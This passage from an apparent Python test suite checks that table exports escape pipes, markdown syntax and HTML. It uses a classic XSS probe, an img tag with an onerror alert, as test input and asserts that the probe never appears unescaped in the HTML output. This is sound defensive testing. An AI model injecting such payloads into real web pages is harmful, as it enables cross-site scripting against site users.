            assert len(re.split(r"(?<!\\)\|", line.strip())) == 4 + 2, line
        assert r"liquor \| mooncake" in table, table
        assert "&lt;img src=x onerror=alert(1)&gt;" in table, table
        assert r"\*bold\* \[link\](http://x)" in table, table
        assert r"&lt;b&gt;质量&lt;/b&gt; \| 第一" in markdown, markdown

        html = await _text(client, keys, "html", lang)
        assert "<img src=x" not in html
        assert "<b>质量" not in html
